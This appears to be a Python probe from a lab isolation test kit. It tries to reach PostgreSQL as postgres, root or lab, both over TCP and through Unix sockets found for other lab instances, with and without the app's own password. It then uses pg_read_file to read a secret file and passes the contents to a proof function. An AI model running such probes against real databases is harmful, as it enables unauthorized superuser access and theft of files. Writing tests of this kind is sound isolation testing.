"""Asks PostgreSQL for its superuser: without and with its own password, over TCP and the socket."""

import glob
import os
import urllib.parse

import psycopg
from kit import TARGETS, prove

NAMES = ("postgres", "root", "lab")


def addresses() -> list[str]:
    own = urllib.parse.urlsplit(os.environ["DATABASE_URL"])
    sockets = [os.path.dirname(one) for one in glob.glob("/tmp/*/lab-*/postgres/.s.PGSQL.*")]
    sockets += [os.path.dirname(one) for one in glob.glob("../postgres/.s.PGSQL.*")]
    return [
        f"host={host} port={own.port} user={user} {password} dbname=postgres connect_timeout=2"
        for host in [own.hostname, *map(os.path.abspath, sockets)]
        for user in NAMES
        for password in ("", f"password={own.password}")
    ]


def attack() -> None:
    for address in addresses():
        try:
            with psycopg.connect(address) as connection:
                file = TARGETS["folder"] + "/secret.txt"
                prove(connection.execute("SELECT pg_read_file(%s)", (file,)).fetchone()[0])
                return
        except psycopg.Error as error:
            last = error
    raise PermissionError(str(last))
